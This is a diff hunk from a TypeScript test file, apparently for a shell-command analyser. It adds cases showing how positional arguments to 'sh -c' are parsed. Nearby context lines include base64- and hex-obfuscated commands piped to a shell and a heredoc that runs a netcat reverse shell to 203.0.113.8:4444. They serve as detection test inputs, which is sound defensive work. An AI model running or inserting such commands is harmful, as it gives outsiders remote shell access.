@@ -135,6 +135,9 @@ const CASES: Array<[string, string[]]> = [
   ["printf -v c '\\x69\\x64'; \"$c\"", ["printf -v c \\x69\\x64", 'id']],
   ["echo aWQ= | base64 -d | xargs -0 sh -c", ['echo aWQ=', 'base64 -d', 'sh -c id', 'shell-c:id']],
   ["echo aWQ= | base64 -d | awk '{system($0)}'", ['echo aWQ=', 'base64 -d', 'awk {system($0)}', 'piped-to-shell:id']],
+  // `sh -c script name args`: the words after the script are its $0, $1…
+  ["find /srv -type f -exec sh -c 'gzip -c \"$1\" > \"$1.gz\"' _ {} \\;", ['find /srv -type f -exec sh -c gzip -c "$1" > "$1.gz" _ {} ;', 'exec-arg:sh -c gzip -c "$1" > "$1.gz" _ {}', 'shell-c:gzip -c {}']],
+  ["sh -c 'echo $1 $2' x a b", ['sh -c echo $1 $2 x a b', 'shell-c:echo a b']],
   // `sh -s -- args`: the heredoc is the script, the words its $1 and $2
   ["sh -s -- 203.0.113.8 4444 <<'EOF'\nnc $1 $2 -e /bin/sh\nEOF", ['sh -s -- 203.0.113.8 4444', 'heredoc-to-shell:nc 203.0.113.8 4444 -e /bin/sh']],
   // a script written by the line and then run by an interpreter is read as that interpreter's code
